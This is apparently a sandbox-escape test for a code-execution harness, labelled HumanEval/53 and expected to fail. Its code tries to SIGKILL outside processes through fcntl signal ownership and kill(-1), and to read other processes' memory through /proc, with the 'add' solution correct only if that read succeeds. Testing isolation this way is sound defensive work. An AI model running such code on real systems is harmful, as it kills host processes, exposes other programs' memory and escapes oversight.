# task: HumanEval/53
# expect: failed
# Reach processes outside the task: SIGKILL by fcntl(F_SETOWN) + F_SETSIG + O_ASYNC on its pipes towards
# every pid and process group it can name, kill(-1), and the memory of any other process through /proc.
# It passes only if it read another process's memory.
import ctypes
import fcntl
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
F_SETSIG = 10
for fd in (1, 2, 3, 4):
    for target in (1, 2, 3, os.getppid(), -1, -2):
        try:
            fcntl.fcntl(fd, fcntl.F_SETOWN, target)
            fcntl.fcntl(fd, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
        except OSError:
            pass
for pid in (-1, 0):
    libc.kill(pid, signal.SIGKILL if pid else 0)
stolen = False
for entry in os.listdir("/proc") if os.path.isdir("/proc") else ():
    if entry.isdigit() and entry != str(os.getpid()):
        try:
            with open(f"/proc/{entry}/mem", "rb") as f:
                stolen = bool(f.read(1))
        except OSError:
            pass


def add(x, y):
    return x + y if stolen else x - y
